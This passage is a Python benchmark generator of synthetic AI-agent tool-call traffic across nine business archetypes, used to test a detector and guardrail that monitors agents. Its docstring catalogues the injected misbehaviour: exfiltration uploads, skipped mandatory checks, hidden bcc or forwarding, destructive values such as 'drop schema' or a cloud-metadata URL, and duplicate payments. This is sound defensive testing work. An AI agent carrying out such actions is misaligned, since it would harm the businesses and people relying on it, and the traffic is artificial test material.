"""Detection on a second outside generator of agent traffic: nine business archetypes, recurring
attackers, API drift.

    python -m benchmarks.outside_traffic2 [--seed 2025] [--runs 850] [--warmup 300]
                                          [--out DIR] [--no-guardrails] [--json FILE]
                                          [--examples 4]

Provenance. The generator and the analysis below were written on Dec 5 by a separate session that
had not read ``ratchet/sandbox/traffic.py``, ``benchmarks/detection.py``,
``benchmarks/outside_traffic.py`` or the detection docs: its idea of what agent traffic and its
anomalies look like is its own, neither the one the defaults grew up on nor that of the first
outside generator (:mod:`benchmarks.outside_traffic`). This module is that code (``gen.py`` and
``analyze.py``) made typed; for the same seed and arguments it writes byte for byte the events
(and the run lines) the original ``gen.py`` wrote — ``gen.py`` had no ``--warmup``: its warm-up
was the constant 300, this module's default. It was used to *find failures* (false positives and
misses the in-house traffic does not provoke); no default is chosen on it: tuning on it would
make it one more in-house benchmark. Detection defaults are chosen on
:data:`benchmarks.detection.TUNING_SEEDS`.

Traffic. 20 agents in nine archetypes (:data:`AGENTS`), each ``--runs`` runs give or take
(``-60..+90``) spread over about a week, 10 % of them starting 5–60 s after the agent's previous
run (so runs overlap), all agents interleaved by timestamp:

  * ``claims``    (3) claim → policy lookup (mandatory) → document pages → OCR → fraud score
                  (mandatory) → (adjuster, note) → status → payout (IBAN or cheque) → e-mail;
  * ``etl``       (2) Airflow DAG → S3 listing pages → trigger → run polls (503 retries) →
                  warehouse queries → data-quality checks (mandatory) → partition swap | quarantine;
  * ``k8s``       (2) Prometheus → deployment → pod pages → scale + polls | pod deletes |
                  annotate → (GitHub issue); never sends ``end_of_run``;
  * ``crm``       (2) Salesforce query pages → per lead: get → Apollo enrich → Gmail draft → send
                  → activity → update;
  * ``research``  (2) search → browser fetches → PDF extracts → LLM summary (with ``cost``) →
                  notes;
  * ``calendar``  (2) contacts → free/busy → event pages → (e-mail) → reschedule | (Zoom) insert;
  * ``payments``  (3) bank transaction pages → Stripe payout pages → ledger → matches →
                  (exception) → (approval request, status polls, adjustment at ``critical``)
                  → e-mail;
  * ``siem``      (2) Splunk search → result polls → VirusTotal → EDR → close notable |
                  Jira + Slack + escalate; never sends ``end_of_run``;
  * ``chat``      (2) 1–14 calls drawn from 14 general tools, each call with a ``cost`` (high
                  entropy).

Normal variants, counted apart in the FPR (a run gets the first that applies): ``rare_branch``
(1.5–2 % of runs: SIU referral, backfill, rollback + incident, opt-out, citation export, cancel,
month-end lock, host containment), ``type_jitter`` (1 % of research runs send ``"num": "10"``
for ``10``), API drift (about 60 % of the non-chat agents: from a run between 420 and 650 on, one
call sends a new field in all or half of its calls; ``drift(first 50 runs after onset)`` and
``drift(later)``), ``loop(pagination/poll/retry)`` and ``plain``.

Anomalies: 4 % of the runs after each agent's ``--warmup`` runs get one of :data:`KINDS`, only
the events it injects or moves labelled ``true``: ``exfil_unknown_service`` (an upload to a
paste/tunnel service), ``priv_unknown_action`` (a privileged call of a known service),
``extra_fields`` (bcc, forwarding, export flags on a known call), ``skip_mandatory`` (the policy
lookup, fraud score, DQ check or approval left out), ``swap_within_service`` /
``swap_across_services`` (two calls swapped), ``destructive_new_action`` (a delete shaped like a
normal read), ``destructive_value_only`` (harmful values in a normal call and shape: a 98,000
payout, ``drop schema``, replicas 0, a cloud-metadata URL), ``short_loop`` (2–3 repeats) /
``long_loop`` (15–40), ``read_then_send`` (a read followed by an outbound send, half the time in
the agent's normal send shape), ``dup_payment`` (a payment repeated, at once or later),
``arg_type_change`` (a scalar becomes an object or a string), ``wrong_position_first`` (the last
call first). Half the anomalous runs are *recurring*: each agent has two favourite kinds that
come back with identical content (an attacker repeating itself), counted by occurrence.

Protocol: ``ratchet replay`` on the events (a private redis-server, learning on, nobody reviews,
guardrails on unless ``--no-guardrails``), then the analysis: run-level figures over the runs
after each agent's warm-up — ``rec.any`` / ``FPR.any`` (some event of the run flagged, paused or
rejected), ``rec.enf`` / ``FPR.enf`` (paused or rejected), ``rec.hit`` (a labelled event itself
not allowed: without a reviewer some anomalous runs are "caught" only through an unrelated false
positive) — overall, per archetype, per agent, per normal variant, per anomaly kind and per
occurrence of the recurring ones; then the causes of the false positives (which agent, call and
reason, still firing at the end?), examples, the missed anomalies with examples, and the mode each
chain reached when. ``--json`` writes the figures (:class:`Figures`); ``--out`` keeps events,
runs, verdicts and the replay summary (otherwise a temporary directory).

One deviation from ``gen.py``: an ``arg_type_change`` is not drawn for a run whose calls all have
empty payloads (``gen.py`` raised there); no traffic ``gen.py`` wrote changes.
"""

from __future__ import annotations

import argparse
import copy
import json
import random
import string
import sys
import tempfile
import time
from collections import Counter, defaultdict
from collections.abc import Callable, Iterable, Mapping, Sequence
from dataclasses import dataclass, field, replace
from itertools import pairwise
from pathlib import Path
from typing import Any, NotRequired, TypeAlias, TypedDict

from benchmarks.replay_files import read_jsonl, replay_child, write_jsonl

__all__ = [
    "AGENTS", "ARCH", "KINDS", "Event", "Figures", "Row", "RunMeta", "analyse",
    "analyse_and_report", "event_line", "generate", "main", "run_line",
]


JsonValue: TypeAlias = (
    str | int | float | bool | None | Sequence["JsonValue"] | Mapping[str, "JsonValue"]
)
Payload: TypeAlias = dict[str, JsonValue]

#: Runs per agent before any anomaly (``gen.py``'s constant) and the share of anomalous runs after.
WARMUP = 300
ANOM_RATE = 0.04
#: Mean runs per agent (each agent gets ``runs + randint(-60, 90)``).
RUNS = 850
PROJECT = "out2"
T0 = 1717200000.0


# --------------------------------------------------------------------------- records

@dataclass(slots=True)
class Step:
    """One tool call of a run before it becomes an event. ``role`` names what it is for in the
    run (``read``, ``read_sensitive``, ``mandatory``, ``payment``, ``send``...), ``gap`` the
    seconds since the previous call when the archetype fixes it."""

    service: str
    action: str
    payload: Payload
    role: str | None = None
    priority: str | None = None
    cost: float | None = None
    gap: float | None = None
    label: bool = False


class Event(TypedDict):
    """One ingest event as written to ``events.jsonl`` (in this key order)."""

    event_id: str
    agent_id: str
    run_id: str
    service: str
    action: str
    payload: Payload
    ts: float
    project_id: str
    label: bool
    priority: NotRequired[str]
    cost: NotRequired[float]
    end_of_run: NotRequired[bool]


class RunMeta(TypedDict):
    """One line of ``runs.jsonl``: ``tags`` the normal variants the run went through (``loop``,
    ``rare``, ``drift``, ``type_jitter``), ``kind`` the anomaly (None: normal), ``recurring``
    whether it is one of the agent's two favourites and ``occurrence`` how many times the agent
    has had that kind so far, ``labelled`` the labelled events, ``drift_at`` the agent's drift
    onset, ``start`` the run's start time."""

    run_id: str
    agent: str
    arch: str
    idx: int
    tags: list[str]
    kind: str | None
    recurring: bool
    occurrence: int | None
    labelled: list[str]
    n_events: int
    drift_at: int | None
    start: float


# --------------------------------------------------------------------------- helpers
# The order of the random draws is the original script's: reordering any of them (or skipping
# one whose value is not used) changes the traffic of every later run.

def _hexid(r: random.Random, n: int = 12) -> str:
    return "".join(r.choice("0123456789abcdef") for _ in range(n))


def _alnum(r: random.Random, n: int) -> str:
    return "".join(r.choice(string.ascii_uppercase + string.digits) for _ in range(n))


def _uuid4(r: random.Random) -> str:
    h = _hexid(r, 32)
    return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-a{h[17:20]}-{h[20:32]}"


WORDS = ["water", "damage", "roof", "leak", "storm", "hail", "vehicle", "collision", "rear",
         "bumper", "theft", "window", "kitchen", "fire", "smoke", "pipe", "burst", "basement",
         "flood", "windshield", "crack", "tree", "fell", "garage", "door", "hail", "dent"]


def _words(r: random.Random, lo: int, hi: int) -> str:
    return " ".join(r.choice(WORDS) for _ in range(r.randint(lo, hi)))


def _day(r: random.Random, base: int = 19800) -> str:
    d = base + r.randint(0, 200)
    y, rem = 2024, d - 19723
    m = max(1, min(12, rem // 30 + 1))
    dd = max(1, min(28, rem % 30 + 1))
    return f"{y}-{m:02d}-{dd:02d}"


def _iso(r: random.Random) -> str:
    return f"{_day(r)}T{r.randint(0, 23):02d}:{r.choice(['00', '15', '30', '45'])}:00Z"


def _s(svc: str, act: str, pl: Payload, role: str | None = None, prio: str | None = None,
       cost: float | None = None, gap: float | None = None) -> Step:
    return Step(svc, act, pl, role or None, prio or None, cost, gap)


def _map(v: JsonValue) -> Mapping[str, JsonValue]:
    if not isinstance(v, Mapping):
        raise TypeError(f"expected an object, got {v!r}")
    return v


def _seq(v: JsonValue) -> Sequence[JsonValue]:
    if not isinstance(v, list):
        raise TypeError(f"expected a list, got {v!r}")
    return v


@dataclass(slots=True)
class AgentState:
    """One agent: its random stream, its drift onset and share, the run being drawn, and what
    some archetypes keep from their first run (``dag``, ``bucket``, ``acct``)."""

    name: str
    arch: str
    rng: random.Random
    drift_at: int | None
    drift_p: float
    idx: int = 0
    dag: str | None = None
    bucket: str | None = None
    acct: int | None = None

    def drift(self) -> bool:
        """Whether this call carries the drifted field (a draw only once drift has begun)."""
        return (self.drift_at is not None and self.idx >= self.drift_at
                and self.rng.random() < self.drift_p)


Tags: TypeAlias = set[str]
RunSteps: TypeAlias = tuple[list[Step], Tags]


# --------------------------------------------------------------------------- archetypes

def _claims(a: AgentState) -> RunSteps:
    r, tags = a.rng, set[str]()
    cid = f"CLM-{r.randint(100000, 999999)}"
    pol = f"HO{r.randint(1000000, 9999999)}"
    st = [_s("claims", "claims.get", {
        "claim_id": cid, "expand": r.choice([["policy"], ["policy", "parties"], []])},
        role="read")]
    p: Payload = {"policy_number": pol, "as_of": _day(r)}
    if r.random() < 0.3:
        p["include_endorsements"] = True
    st.append(_s("policy", "policy.lookup", p, role="mandatory_read_sensitive"))
    pages = r.choices([1, 2, 3, 4], [60, 25, 10, 5])[0]
    if pages > 1:
        tags.add("loop")
    for i in range(pages):
        st.append(_s("docs", "docs.list", {"claim_id": cid, "page": i + 1, "page_size": 25}))
    ndocs = r.randint(1, 4)
    if ndocs > 1:
        tags.add("loop")
    for _ in range(ndocs):
        p = {"doc_id": f"doc_{_hexid(r, 10)}",
             "pages": [r.randint(1, 9) for _ in range(r.randint(1, 4))]}
        if r.random() < 0.25:
            p["lang"] = r.choice(["en", "es"])
        st.append(_s("docs", "docs.ocr", p, gap=r.uniform(3, 20)))
    amount = round(r.lognormvariate(7.5, 1.0), 2)
    fs: Payload = {
        "claim_id": cid, "amount": amount,
        "features": {"days_since_inception": r.randint(1, 2000),
                     "police_report": r.random() < 0.4,
                     "loss_type": r.choice(["water", "fire", "auto", "theft"])},
        "prior_claims": [{"claim_id": f"CLM-{r.randint(100000, 999999)}",
                          "paid": round(r.uniform(100, 9000), 2)}
                         for _ in range(r.choices([0, 1, 2, 3], [55, 25, 15, 5])[0])]}
    if a.drift():
        fs["model_version"] = "fraud-v7"
        tags.add("drift")
    st.append(_s("fraud", "fraud.score", fs, role="mandatory"))
    if r.random() < 0.02:  # rare branch: SIU referral, no payout
        tags.add("rare")
        st.append(_s("fraud", "fraud.refer_siu", {
            "claim_id": cid, "indicators": r.sample(["late_report", "prior_fraud", "inflated"], 2),
            "score": round(r.random(), 3)}))
        st.append(_s("claims", "claims.update_status", {
            "claim_id": cid, "status": "on_hold", "reserve_amount": None}))
        st.append(_s("notify", "notify.email", {
            "to_party_id": r.randint(10000, 99999), "template": "claim_on_hold",
            "vars": {"claim_id": cid}}))
        return st, tags
    if amount > 4000:
        st.append(_s("claims", "claims.assign_adjuster", {
            "claim_id": cid, "adjuster_id": r.randint(100, 999),
            "reason": r.choice(["amount", "complexity"])}))
        st.append(_s("claims", "claims.add_note", {
            "claim_id": cid, "text": _words(r, 3, 12), "visibility": "internal"}))
    approved = r.random() < 0.72
    st.append(_s("claims", "claims.update_status", {
        "claim_id": cid, "status": "approved" if approved else "denied",
        "reserve_amount": amount if approved else None}))
    if approved:
        payee: Payload = {
            "name": f"{r.choice(['J.', 'M.', 'A.'])} {r.choice(['Smith', 'Garcia', 'Lee'])}"}
        if r.random() < 0.6:
            payee["iban"] = "DE89370400440532013000"
        else:
            payee["check_address"] = {"line1": f"{r.randint(1, 999)} Main St",
                                      "city": "Springfield", "zip": f"{r.randint(10000, 99999)}"}
        st.append(_s("payments", "payments.create_payout", {
            "claim_id": cid, "payee": payee, "amount": amount, "currency": "USD",
            "idempotency_key": _uuid4(r)}, role="payment", prio="high"))
        st.append(_s("notify", "notify.email", {
            "to_party_id": r.randint(10000, 99999), "template": "claim_paid",
            "vars": {"claim_id": cid, "amount": amount}}, role="send"))
    else:
        st.append(_s("notify", "notify.email", {
            "to_party_id": r.randint(10000, 99999), "template": "claim_denied",
            "vars": {"claim_id": cid}}, role="send"))
    return st, tags


def _etl(a: AgentState) -> RunSteps:
    r, tags = a.rng, set[str]()
    # (the original's ``setdefault`` draws the default on every run, kept or not)
    dag_draw = f"load_{r.choice(['orders', 'events', 'billing'])}_daily"
    if a.dag is None:
        a.dag = dag_draw
    dag = a.dag
    st = [_s("airflow", "airflow.get_dag", {"dag_id": dag})]
    bucket_draw = f"raw-{r.choice(['prod', 'lake'])}-{_hexid(r, 4)}"
    if a.bucket is None:
        a.bucket = bucket_draw
    bucket = a.bucket
    pages = r.choices([1, 2, 3, 4, 5], [40, 30, 15, 10, 5])[0]
    if pages > 1:
        tags.add("loop")
    for i in range(pages):
        p: Payload = {"bucket": bucket, "prefix": f"dt={_day(r)}/", "max_keys": 1000,
                      "continuation_token": None if i == 0 else _hexid(r, 24)}
        if a.drift():
            p["request_payer"] = "requester"
            tags.add("drift")
        st.append(_s("s3", "s3.list_objects", p))
    backfill = r.random() < 0.02
    if backfill:  # rare branch
        tags.add("rare")
        st.append(_s("airflow", "airflow.clear_task_instances", {
            "dag_id": dag, "start_date": _day(r), "end_date": _day(r), "only_failed": True,
            "dry_run": False}))
    lg = _day(r)
    st.append(_s("airflow", "airflow.trigger_dag_run", {
        "dag_id": dag, "logical_date": lg,
        "conf": {"date": lg, "partitions": [f"p{i}" for i in range(r.randint(1, 6))]}}))
    polls = r.randint(2, 14)
    tags.add("loop")
    run_id = f"manual__{lg}"
    for _ in range(polls):
        st.append(_s("airflow", "airflow.get_dag_run", {"dag_id": dag, "dag_run_id": run_id},
                     gap=r.uniform(15, 40)))
        if r.random() < 0.05:  # retry after 503: same call again
            st.append(_s("airflow", "airflow.get_dag_run",
                         {"dag_id": dag, "dag_run_id": run_id}, gap=r.uniform(1, 3)))
    for _ in range(r.randint(1, 3)):
        sql = r.choice(["select count(*) from stg.orders where dt = %s",
                        "select max(updated_at) from stg.events",
                        "select sum(amount) from stg.billing where dt = %s"])
        p = {"sql": sql, "warehouse": "ETL_WH", "timeout_s": r.choice([60, 300])}
        if "%s" in sql:
            p["params"] = [lg]
        st.append(_s("warehouse", "warehouse.query", p, role="read"))
    checks: list[JsonValue] = [
        {"name": n, "threshold": round(r.uniform(0.9, 1.0), 2)}
        for n in r.sample(["not_null", "unique", "freshness", "row_count"], r.randint(1, 4))]
    table = dag.split("_")[1]
    p = {"dataset": f"stg.{table}", "checks": checks}
    if r.random() < 0.3:
        p["sample_pct"] = r.choice([1, 5, 10])
    st.append(_s("dq", "dq.run_checks", p, role="mandatory"))
    if r.random() < 0.08:
        st.append(_s("warehouse", "warehouse.query", {
            "sql": "insert into quarantine.rows select * from stg.x where dq_failed",
            "warehouse": "ETL_WH", "timeout_s": 300}))
        st.append(_s("slack", "slack.post_message", {
            "channel": "#data-alerts", "text": f"DQ failed for {dag}",
            "blocks": [{"type": "section", "text": {"type": "mrkdwn", "text": "details"}}]},
            role="send"))
        return st, tags
    st.append(_s("warehouse", "warehouse.swap_partition", {
        "table": f"prod.{table}", "partition": lg, "staging_table": f"stg.{table}"},
        role="payment"))
    if r.random() < 0.5:
        st.append(_s("slack", "slack.post_message", {
            "channel": "#data-eng", "text": f"{dag} {lg} loaded"}, role="send"))
    return st, tags


def _k8s(a: AgentState) -> RunSteps:
    r, tags = a.rng, set[str]()
    ns = r.choice(["payments", "web", "search", "ingest"])
    name = f"{ns}-{r.choice(['api', 'worker', 'gateway'])}"
    st: list[Step] = []
    for _ in range(r.randint(1, 3)):
        p: Payload = {"query": f'sum(rate(http_requests_total{{namespace="{ns}"}}[5m]))',
                      "time": _iso(r)}
        if r.random() < 0.3:
            p["step"] = "30s"
        st.append(_s("prometheus", "prometheus.query", p, role="read"))
    st.append(_s("k8s", "k8s.get", {"kind": "Deployment", "namespace": ns, "name": name},
                 role="read"))
    pages = r.choices([1, 2, 3], [70, 20, 10])[0]
    if pages > 1:
        tags.add("loop")
    for i in range(pages):
        p = {"kind": "Pod", "namespace": ns, "label_selector": f"app={name}", "limit": 100,
             "continue": None if i == 0 else _hexid(r, 20)}
        if a.drift():
            p["resource_version_match"] = "NotOlderThan"
            tags.add("drift")
        st.append(_s("k8s", "k8s.list", p))
    u = r.random()
    if u < 0.015:  # rare: rollback + incident
        tags.add("rare")
        st.append(_s("k8s", "k8s.rollout_undo", {
            "namespace": ns, "name": name, "to_revision": r.randint(2, 40)}, prio="high"))
        st.append(_s("pagerduty", "pagerduty.create_incident", {
            "service_id": f"P{_alnum(r, 6)}", "title": f"rollback {name}", "urgency": "high"},
            role="send"))
    elif u < 0.42:
        st.append(_s("k8s", "k8s.patch", {
            "kind": "Deployment", "namespace": ns, "name": name,
            "patch": {"spec": {"replicas": r.randint(2, 12)}}}, role="payment"))
        polls = r.randint(1, 6)
        if polls > 1:
            tags.add("loop")
        for _ in range(polls):
            st.append(_s("k8s", "k8s.get", {"kind": "Deployment", "namespace": ns, "name": name},
                         gap=r.uniform(5, 15)))
    elif u < 0.62:
        n = r.randint(1, 3)
        if n > 1:
            tags.add("loop")
        for _ in range(n):
            st.append(_s("k8s", "k8s.delete", {
                "kind": "Pod", "namespace": ns, "name": f"{name}-{_hexid(r, 5)}",
                "grace_period_seconds": 30}, prio="high"))
    else:
        st.append(_s("k8s", "k8s.patch", {
            "kind": "Deployment", "namespace": ns, "name": name,
            "patch": {"metadata": {"annotations": {"ops.bot/last-check": _iso(r)}}}}))
    if r.random() < 0.1:
        st.append(_s("github", "github.create_issue", {
            "repo": "infra/ops", "title": f"{name} anomaly", "body": _words(r, 5, 20),
            "labels": r.sample(["k8s", "auto", "perf"], r.randint(1, 3))}, role="send"))
    return st, tags


def _crm(a: AgentState) -> RunSteps:
    r, tags = a.rng, set[str]()
    st: list[Step] = []
    pages = r.choices([1, 2, 3], [65, 25, 10])[0]
    if pages > 1:
        tags.add("loop")
    for i in range(pages):
        p: Payload = {
            "soql": "SELECT Id, Email, Company FROM Lead WHERE Status = 'Open' LIMIT 50",
            "limit": 50}
        if i > 0:
            p = {"next_records_url": f"/services/data/v59.0/query/01g{_alnum(r, 15)}-{i * 50}"}
        st.append(_s("salesforce", "salesforce.query", p, role="read_sensitive"))
    for _ in range(r.randint(1, 5)):
        lid = f"00Q{_alnum(r, 15)}"
        st.append(_s("salesforce", "salesforce.get_lead", {
            "id": lid, "fields": ["Email", "Company", "Title"]}, role="read"))
        domain = f"{_hexid(r, 6)}.com"
        e: Payload = {"domain": domain}
        if r.random() < 0.6:
            e["email"] = f"x{r.randint(1, 999)}@{domain}"
        else:
            e["linkedin_url"] = f"https://linkedin.com/in/{_hexid(r, 8)}"
        if a.drift():
            e["reveal_phone_number"] = False
            tags.add("drift")
        st.append(_s("apollo", "apollo.enrich_person", e))
        if r.random() < 0.02:  # rare: opted out
            tags.add("rare")
            st.append(_s("salesforce", "salesforce.update_lead", {
                "id": lid, "fields": {"HasOptedOutOfEmail": True, "Status": "Unqualified"}}))
            continue
        d: Payload = {"to": [f"lead{r.randint(1, 999)}@example.com"],
                      "subject": _words(r, 3, 6),
                      "body_html": "<p>" + _words(r, 20, 60) + "</p>",
                      "thread_id": None if r.random() < 0.8 else _hexid(r, 16)}
        st.append(_s("gmail", "gmail.create_draft", d))
        if r.random() < 0.7:
            st.append(_s("gmail", "gmail.send_draft",
                         {"draft_id": f"r-{r.randint(10**8, 10**9)}"}, role="payment"))
        st.append(_s("salesforce", "salesforce.log_activity", {
            "who_id": lid, "subject": "Email: outreach", "type": "Email",
            "activity_date": _day(r)}))
        f: Payload = {"Status": "Contacted"}
        if r.random() < 0.3:
            f["Rating"] = r.choice(["Hot", "Warm", "Cold"])
        st.append(_s("salesforce", "salesforce.update_lead", {"id": lid, "fields": f}))
    return st, tags


def _research(a: AgentState) -> RunSteps:
    r, tags = a.rng, set[str]()
    st: list[Step] = []
    jitter = r.random() < 0.01
    if jitter:
        tags.add("type_jitter")
    nq = r.randint(1, 3)
    if nq > 1:
        tags.add("loop")
    for i in range(nq):
        p: Payload = {"q": _words(r, 2, 6),
                      "num": "10" if (jitter and i == 0) else r.choice([5, 10, 20])}
        if r.random() < 0.3:
            p["freshness"] = r.choice(["day", "week", "month"])
        if a.drift():
            p["safe_search"] = "moderate"
            tags.add("drift")
        st.append(_s("search", "search.query", p, role="read"))
        for _ in range(r.randint(1, 4)):
            st.append(_s("browser", "browser.fetch", {
                "url": f"https://{_hexid(r, 6)}.org/{_hexid(r, 8)}",
                "render_js": r.random() < 0.3, "timeout_s": 30}, gap=r.uniform(2, 10)))
    for _ in range(r.choices([0, 1, 2, 3], [30, 40, 20, 10])[0]):
        p = {"url": f"https://arxiv.org/pdf/24{r.randint(1, 12):02d}.{r.randint(10000, 99999)}",
             "ocr": r.random() < 0.1,
             "pages": None if r.random() < 0.5 else {"from": 1, "to": r.randint(2, 30)}}
        st.append(_s("pdf", "pdf.extract", p, gap=r.uniform(5, 30), role="read_sensitive"))
    st.append(_s("llm", "llm.summarize", {
        "model": r.choice(["gpt-4o", "claude-3-5-sonnet"]), "text_chars": r.randint(2000, 90000),
        "max_tokens": r.choice([512, 1024, 2048]), "instructions": _words(r, 4, 10)},
        cost=round(r.uniform(0.005, 0.08), 4)))
    if r.random() < 0.3:
        st.append(_s("notes", "notes.search", {
            "query": _words(r, 1, 3), "filter": {"property": "object", "value": "page"}}))
    blocks: list[JsonValue] = [
        {"type": t, "text": _words(r, 3, 15)}
        for t in r.choices(["paragraph", "heading_2", "bulleted_list_item", "quote"],
                           k=r.randint(1, 8))]
    st.append(_s("notes", "notes.append", {"page_id": _uuid4(r), "blocks": blocks}, role="send"))
    if r.random() < 0.02:
        tags.add("rare")
        st.append(_s("notes", "notes.export", {"page_id": _uuid4(r), "format": "bibtex"}))
    return st, tags


def _attendee(r: random.Random, email: str) -> Payload:
    d: Payload = {"email": email}
    if r.random() < 0.2:
        d["optional"] = True
    return d


def _calendar(a: AgentState) -> RunSteps:
    r, tags = a.rng, set[str]()
    st: list[Step] = []
    people = [f"p{r.randint(1, 400)}@corp.example" for _ in range(r.randint(1, 4))]
    for pp in people[: r.randint(1, len(people))]:
        st.append(_s("contacts", "contacts.lookup", {
            "query": pp.split("@")[0], "max_results": 5}, role="read_sensitive"))
    st.append(_s("gcal", "gcal.freebusy", {
        "time_min": _iso(r), "time_max": _iso(r), "items": [{"id": p} for p in people]},
        role="read"))
    pages = r.choices([1, 2, 3], [70, 22, 8])[0]
    if pages > 1:
        tags.add("loop")
    for i in range(pages):
        p: Payload = {"calendar_id": "primary", "time_min": _iso(r), "time_max": _iso(r),
                      "single_events": True}
        if i > 0:
            p["page_token"] = _hexid(r, 22)
        st.append(_s("gcal", "gcal.events_list", p))
    u = r.random()
    if u < 0.02:  # rare: cancel
        tags.add("rare")
        st.append(_s("gcal", "gcal.events_delete", {
            "calendar_id": "primary", "event_id": _hexid(r, 26), "send_updates": "all"}))
        return st, tags
    if r.random() < 0.4:
        st.append(_s("gmail", "gmail.send", {
            "to": people, "subject": "Scheduling: " + _words(r, 2, 4),
            "body": _words(r, 10, 40)}, role="send"))
    if u < 0.22:
        st.append(_s("gcal", "gcal.events_patch", {
            "calendar_id": "primary", "event_id": _hexid(r, 26),
            "start": {"dateTime": _iso(r), "timeZone": "Europe/Berlin"},
            "end": {"dateTime": _iso(r), "timeZone": "Europe/Berlin"}}, role="payment"))
        return st, tags
    summary = _words(r, 2, 5)
    ev: Payload = {"calendar_id": "primary", "summary": summary,
                   "start": {"dateTime": _iso(r), "timeZone": "Europe/Berlin"},
                   "end": {"dateTime": _iso(r), "timeZone": "Europe/Berlin"},
                   "attendees": [_attendee(r, p) for p in people]}
    if r.random() < 0.3:
        z: Payload = {"topic": summary, "start_time": _iso(r),
                      "duration": r.choice([15, 30, 45, 60]),
                      "settings": {"waiting_room": r.random() < 0.5}}
        st.append(_s("zoom", "zoom.create_meeting", z))
        ev["conferenceData"] = {"entryPoints": [{
            "entryPointType": "video", "uri": f"https://zoom.us/j/{r.randint(10**9, 10**10)}"}]}
    if r.random() < 0.35:
        ev["description"] = _words(r, 5, 25)
    if a.drift():
        ev["eventType"] = "default"
        tags.add("drift")
    st.append(_s("gcal", "gcal.events_insert", ev, role="payment"))
    return st, tags


def _payments(a: AgentState) -> RunSteps:
    r, tags = a.rng, set[str]()
    acct_draw = r.randint(10**7, 10**8)  # (drawn on every run, as the original's setdefault)
    if a.acct is None:
        a.acct = acct_draw
    acct = a.acct
    st: list[Step] = []
    pages = r.choices([1, 2, 3, 4, 5, 6], [30, 25, 20, 12, 8, 5])[0]
    if pages > 1:
        tags.add("loop")
    for i in range(pages):
        p: Payload = {"account_id": acct, "from": _day(r), "to": _day(r),
                      "cursor": None if i == 0 else _hexid(r, 16), "limit": 200}
        if a.drift():
            p["include_pending"] = False
            tags.add("drift")
        st.append(_s("bank", "bank.list_transactions", p, role="read_sensitive"))
    sp = r.choices([1, 2, 3], [60, 30, 10])[0]
    for i in range(sp):
        p = {"created": {"gte": r.randint(1700000000, 1720000000),
                         "lte": r.randint(1720000000, 1730000000)}, "limit": 100}
        if i > 0:
            p["starting_after"] = f"po_{_alnum(r, 24)}"
        st.append(_s("stripe", "stripe.list_payouts", p))
    period = f"2024-{r.randint(1, 12):02d}"
    st.append(_s("ledger", "ledger.get_entries", {
        "account_code": r.choice(["1010", "1020", "1200"]), "period": period}, role="read"))
    n = r.randint(1, 8)
    if n > 1:
        tags.add("loop")
    for _ in range(n):
        st.append(_s("ledger", "ledger.post_match", {
            "bank_txn_id": f"txn_{_hexid(r, 14)}",
            "ledger_entry_ids": [f"je-{r.randint(10000, 99999)}" for _ in range(r.randint(1, 3))],
            "confidence": round(r.uniform(0.8, 1.0), 3)}))
    if r.random() < 0.3:
        st.append(_s("ledger", "ledger.create_exception", {
            "bank_txn_id": f"txn_{_hexid(r, 14)}",
            "reason": r.choice(["no_match", "amount_mismatch"]),
            "amount": round(r.uniform(1, 5000), 2)}))
    if r.random() < 0.15:
        amt = round(r.uniform(0.5, 900), 2)
        st.append(_s("approvals", "approvals.request", {
            "amount": amt, "reason": "fx rounding", "approver_group": "finance-ops"},
            role="mandatory"))
        polls = r.randint(1, 5)
        tags.add("loop")
        for _ in range(polls):
            st.append(_s("approvals", "approvals.get_status",
                         {"request_id": f"apr_{_hexid(r, 10)}"}, gap=r.uniform(20, 90)))
        st.append(_s("ledger", "ledger.post_adjustment", {
            "amount": amt, "currency": "EUR", "account_code": "6900", "memo": "fx rounding",
            "approval_id": f"apr_{_hexid(r, 10)}"}, role="payment", prio="critical"))
    if r.random() < 0.02:  # rare: month-end lock
        tags.add("rare")
        st.append(_s("ledger", "ledger.lock_period", {"period": period, "lock_type": "soft"}))
    if r.random() < 0.6:
        st.append(_s("email", "email.send", {
            "to": ["finance-ops@corp.example"], "subject": f"Recon {period}",
            "attachments": [{"filename": f"recon_{period}.csv", "mime_type": "text/csv"}]},
            role="send"))
    return st, tags


def _siem(a: AgentState) -> RunSteps:
    r, tags = a.rng, set[str]()
    st: list[Step] = []
    sid_q: Payload = {
        "query": f'search index=edr host="{_hexid(r, 6)}" | stats count by process',
        "earliest": "-24h", "latest": "now", "max_results": r.choice([100, 1000])}
    st.append(_s("splunk", "splunk.search", sid_q, role="read_sensitive"))
    polls = r.randint(1, 5)
    if polls > 1:
        tags.add("loop")
    sid = f"{r.randint(10**9, 10**10)}.{r.randint(1, 999)}"
    for i in range(polls):
        st.append(_s("splunk", "splunk.get_results", {"sid": sid, "offset": i * 100, "count": 100},
                     gap=r.uniform(3, 12)))
    n = r.choices([0, 1, 2, 3, 4, 5, 6], [10, 25, 25, 15, 10, 10, 5])[0]
    if n > 1:
        tags.add("loop")
    for _ in range(n):
        t = r.choice(["ip", "domain", "hash"])
        # (the three candidates are all drawn, then one kept)
        ind = {"ip": f"{r.randint(1, 223)}.{r.randint(0, 255)}.{r.randint(0, 255)}."
                     f"{r.randint(1, 254)}",
               "domain": f"{_hexid(r, 8)}.xyz", "hash": _hexid(r, 64)}[t]
        p: Payload = {"indicator": ind, "type": t}
        if a.drift():
            p["relationships"] = ["resolutions", "contacted_domains"]
            tags.add("drift")
        st.append(_s("virustotal", "virustotal.lookup", p))
    host = f"h-{_hexid(r, 8)}"
    for _ in range(r.choices([0, 1, 2], [40, 50, 10])[0]):
        st.append(_s("edr", "edr.get_host", {"host_id": host}, role="read"))
    if r.random() < 0.015:  # rare containment
        tags.add("rare")
        st.append(_s("edr", "edr.contain_host", {
            "host_id": host, "comment": "auto-contain: " + _words(r, 2, 5)},
            prio="high", role="payment"))
    if r.random() < 0.62:
        st.append(_s("splunk", "splunk.update_notable", {
            "event_ids": [f"{_hexid(r, 8)}@@notable@@{_hexid(r, 32)}"], "status": 5,
            "comment": "benign: " + _words(r, 2, 6)}))
    else:
        st.append(_s("jira", "jira.create_issue", {"fields": {
            "project": {"key": "SEC"}, "summary": _words(r, 3, 7),
            "description": _words(r, 10, 40),
            "priority": {"name": r.choice(["High", "Medium"])}, "labels": ["triage"]}}))
        st.append(_s("slack", "slack.post_message", {
            "channel": "#soc", "text": "New incident " + _words(r, 2, 4)}, role="send"))
        st.append(_s("splunk", "splunk.update_notable", {
            "event_ids": [f"{_hexid(r, 8)}@@notable@@{_hexid(r, 32)}"], "status": 2,
            "comment": "escalated"}))
    return st, tags


